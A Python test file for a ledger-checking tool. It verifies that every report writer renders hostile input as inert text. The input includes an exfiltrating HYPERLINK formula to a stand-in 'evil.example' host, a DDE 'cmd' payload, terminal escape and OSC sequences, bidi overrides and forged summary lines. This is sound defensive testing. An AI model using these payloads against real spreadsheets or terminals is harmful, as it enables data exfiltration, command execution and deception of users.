"""Output that attacks its reader: formulas in spreadsheets, control characters on terminals, lost xlsx reports.

``outputs/attack.jsonl`` holds ledger rows whose ids, names and districts begin with ``= + - @`` (also after a tab or
a carriage return, which the reader strips), carry ESC, OSC, CR, newlines, C1 controls and bidi overrides, or are
not text at all. Every writer must write every report of it: text stays text in spreadsheets (never a formula),
control characters are escaped wherever people read (table, validate, explain, budget, XLSX), and JSON keeps them
exactly. The hypothesis tests hunt the same classes with generated strings through the engine and every writer.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import tuoyu_rules
from tuoyu_rules.cli import main
from tuoyu_rules.records import read_rows
from tuoyu_rules.text import printable
from tuoyu_rules.writers import WRITERS, write_reports

HERE = Path(__file__).resolve().parent
ATTACK = HERE / "outputs" / "attack.jsonl"
DAY = datetime.date(2024, 6, 30)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# what must never reach a terminal raw: C0 (but the line's own newline), DEL, C1, bidi controls, line separators
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def attack_reports() -> list[dict[str, Any]]:
    policy = tuoyu_rules.load_policy("luzhou_longmatan")
    return [r.to_dict() for r in policy.evaluate_many(read_rows(ATTACK), as_of=DAY)]


def check(*args: str) -> list[str]:
    return ["check", "--policy", "luzhou_longmatan", "--as-of", "2024-06-30", *args]


# ---- spreadsheets: text from input is always text -----------------------------------------------------------------
def assert_no_live_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START) or NUMBER.fullmatch(cell), f"live formula in CSV: {cell!r}"


def test_csv_neutralises_formulas_from_the_ledger_and_keeps_numbers(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    assert main(check("--format", "csv", "-o", str(out), str(ATTACK))) == 1
    text = out.read_text(encoding="utf-8-sig")
    assert text.startswith("# "), "the provenance comment line comes first"
    rows = list(csv.reader(io.StringIO(text.split("\n", 1)[1])))
    assert_no_live_formula(rows)
    ids = [r[0] for r in rows[1:]]
    assert ids[:5] == ['\'=HYPERLINK("http://evil.example/?"&A1,"点此")', "'+SUM(1,2)", "'-1+1", "'=1+1", ids[4]]
    assert ids[4] == "'=cmd|' /C calc'!A0", "a leading CR stripped on input must not leave a live formula"
    names = {r[0]: r[1] for r in rows[1:]}
    assert names["'+SUM(1,2)"] == "'+86 123" and names["'-1+1"] == "'@SUM(A1:A9)"
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["违规数"].isdigit() and not first["违规数"].startswith("'"), "numbers stay numbers"


def xlsx_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_xlsx_writes_formulas_from_the_ledger_as_text_cells(tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    assert main(check("--format", "xlsx", "-o", str(out), str(ATTACK))) == 1
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets), "no cell is a formula"
    cells = xlsx_cells(out)
    texts = {c.value for c in cells if c.data_type == "s"}
    assert '=HYPERLINK("http://evil.example/?"&A1,"点此")' in texts and "=cmd|' /C calc'!A0" in texts
    assert "@SUM(A1:A9)" in texts and "-2+3" in texts
    assert not any(c.data_type == "f" for c in cells)
    counts = [c.value for c in cells if c.column_letter == "G" and c.row > 1 and c.parent.title == "报告"]
    assert counts and all(isinstance(v, int) for v in counts), "numbers stay numbers"


def test_xlsx_writes_every_report_with_control_characters_and_a_non_text_district(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "r.xlsx"
    assert main(check("--format", "xlsx", "-o", str(out), str(ATTACK))) == 1
    book = load_workbook(out)
    reports = [[c.value for c in row] for row in book["报告"].iter_rows(min_row=2)]
    assert len(reports) == 10 and book["错误"].max_row == 2, "every row of the ledger is in the workbook"
    by_id = {r[0]: r for r in reports}
    assert by_id["ESC-1"][1] == "机构\\x1b[2K\\r✓ 通过的机构" and by_id["ESC-1"][3] == "\\u202e区县\\u202c"
    assert by_id["NL-1"][1] == "名称\\n✓ 共 1 条：通过 1，不通过 0" and by_id["NL-1"][3] == "\\x9b31m"
    assert by_id["NUM-DISTRICT"][3] == 5 and by_id["LIST-DISTRICT"][3] == '["a", "\\u001b"]'


# ---- terminals: control characters are escaped where people read ----------------------------------------------
def test_the_table_escapes_control_characters_and_json_keeps_them(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(check(str(ATTACK))) == 1
    table = capsys.readouterr().out
    assert not RAW_CONTROL.search(table), "no control character reaches the terminal"
    assert "机构\\x1b[2K\\r✓ 通过的机构" in table and "窗口\\x1b]0;pwned\\x07标题" in table
    lines = table.splitlines()
    assert len(lines) == 11 + 1 + sum(line.startswith("    ") for line in lines), "no value adds a line of its own"
    assert not any(line.startswith("✓ 共") for line in lines), "no name may forge a summary line"
    assert main(check("--format", "jsonl", str(ATTACK))) == 1
    lines = [line for line in capsys.readouterr().out.split("\n") if line]  # JSON Lines end at \n only
    names = [json.loads(line).get("record", {}).get("name") for line in lines]
    assert "机构\x1b[2K\r✓ 通过的机构" in names and "名称\n✓ 共 1 条：通过 1，不通过 0" in names, "JSON is exact"


FORGED = "x\n✓ tests/a.yaml：0 个错误，0 个警告\n"


def test_a_newline_in_a_policy_key_cannot_forge_a_validate_line(
    tmp_path: Path, mini_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    policy = tmp_path / "forged.yaml"
    policy.write_text(mini_path.read_text(encoding="utf-8") + f"{json.dumps(FORGED)}: 1\n", encoding="utf-8")
    assert main(["validate", str(policy)]) == 1
    captured = capsys.readouterr()
    text = captured.out + captured.err
    assert not RAW_CONTROL.search(text)
    assert not any(line.startswith("✓") for line in text.splitlines()), text
    assert "x\\n✓ tests/a.yaml" in text


def test_explain_escapes_control_characters_of_the_policy(
    tmp_path: Path, mini_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text = mini_path.read_text(encoding="utf-8")
    title = re.search(r"^(\s+)title: (.+)$", text, flags=re.MULTILINE)
    assert title, "mini.yaml has a titled rule"
    hostile = text.replace(title.group(0), f'{title.group(1)}title: "\\e]0;pwned\\a\\e[2K\\r✓ {title.group(2)}"', 1)
    policy = tmp_path / "hostile.yaml"
    policy.write_text(hostile, encoding="utf-8")
    assert main(["explain", "--policy", str(policy)]) == 0
    out = capsys.readouterr().out
    assert not RAW_CONTROL.search(out) and "\\x1b]0;pwned\\x07\\x1b[2K\\r✓" in out


def test_budget_escapes_control_characters_of_the_ledger(capsys: pytest.CaptureFixture[str]) -> None:
    code = main(["budget", "--policy", "luzhou_longmatan", "--as-of", "2024-06-30", str(ATTACK)])
    out = capsys.readouterr().out
    assert code == 0 and "\\x1b[2J" in out and "\\u202e区县\\u202c" in out
    assert not RAW_CONTROL.search(out)


# ---- every writer accepts every report the engine can produce ---------------------------------------------------
HOSTILE_TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from([*"=+-@\t\r\n\x1b\x07\x00\x7f\x85\x9b\u202e\u2066\u2028", "托", "园", "a", "1", " ", "'", '"']),
        st.characters(codec="utf-8"),
    ),
    max_size=24,
)
RECORD_VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(-(10**6), 10**6), HOSTILE_TEXT, st.lists(HOSTILE_TEXT, max_size=2)
)
EXAMPLES = HERE.parent.parent / "examples" / "luzhou_longmatan"
BASES = [
    json.loads(ATTACK.read_text(encoding="utf-8").splitlines()[0]),  # an institution that passes, with subsidies
    json.loads((EXAMPLES / "institutions.jsonl").read_text(encoding="utf-8").splitlines()[0]),  # one that fails
    *(r.data for r in read_rows(EXAMPLES / "regions.jsonl")),
    *(r.data for r in read_rows(EXAMPLES / "residential_areas.csv")),
]


@st.composite
def hostile_records(draw: st.DrawFn) -> dict[str, Any]:
    """A record of any kind the examples hold, its id, name and district hostile, a few other fields replaced."""
    record = dict(draw(st.sampled_from(BASES)))
    for field in ("id", "name", "district"):
        record[field] = draw(st.one_of(HOSTILE_TEXT, RECORD_VALUES) if field == "district" else HOSTILE_TEXT)
    for field in draw(st.lists(st.sampled_from(sorted(set(record) - {"kind"})), max_size=3)):
        record[field] = draw(RECORD_VALUES)
    return record


def write_all(items: list[dict[str, Any]]) -> dict[str, bytes]:
    out = {}
    for fmt, writer in WRITERS.items():
        if not writer.available:  # an optional extra that is not installed here (CI installs every extra)
            continue
        buffer = io.BytesIO()
        write_reports(items, fmt, buffer)
        out[fmt] = buffer.getvalue()
    return out


@settings(max_examples=30, deadline=None)
@given(st.lists(hostile_records(), min_size=1, max_size=4), st.booleans())
def test_every_writer_accepts_every_report_the_engine_produces(records: list[dict[str, Any]], passes: bool) -> None:
    policy = tuoyu_rules.load_policy("luzhou_longmatan")
    items = [r.to_dict(passes=passes) for r in policy.evaluate_many(records, as_of=DAY)]
    assert len(items) == len(records)
    written = write_all(items)
    assert not RAW_CONTROL.search(written["table"].decode("utf-8")), "the table escapes control characters"
    assert_no_live_formula(list(csv.reader(io.StringIO(written["csv"].decode("utf-8-sig")))))
    lines = written["jsonl"].decode("utf-8").removesuffix("\n").split("\n")
    assert [json.loads(line) for line in lines] == json.loads(json.dumps(items)), "JSON keeps every character"
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(written["xlsx"]))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells), "no cell is a formula"
    reports = [i for i in items if i.get("status") != "error"]
    ids = [c.value for c in book["报告"]["A"][1:]] if reports else []
    assert ids == [printable(str(i["id"])) or None for i in reports], "every report is a row, its id as text"
    # the errors sheet lists every error of an error row, and every refused value no rule reads (a record warning)
    refused = sum(1 for i in reports for w in i.get("warnings") or () if w.get("field") is not None)
    assert book["错误"].max_row - 1 == sum(len(i["errors"]) for i in items if i.get("status") == "error") + refused


# ---- the one escaping function ------------------------------------------------------------------------------------
def test_printable_escapes_what_steers_a_terminal_and_nothing_else() -> None:
    assert printable("\x1b]0;t\x07\x1b[2K\r✓\n\t\x00\x7f\x85\u202e\u2066\u2028") == (
        "\\x1b]0;t\\x07\\x1b[2K\\r✓\\n\\t\\x00\\x7f\\x85\\u202e\\u2066\\u2028"
    )
    assert printable("双加镇小太阳托育园 C:\\ledger 1,200 ㎡ ＝") == "双加镇小太阳托育园 C:\\ledger 1,200 ㎡ ＝"


@given(st.text())
def test_printable_leaves_no_control_character_and_is_idempotent(text: str) -> None:
    shown = printable(text)
    assert not RAW_CONTROL.search(shown) and "\n" not in shown
    assert printable(shown) == shown
    if not RAW_CONTROL.search(text) and "\n" not in text:
        assert shown == text
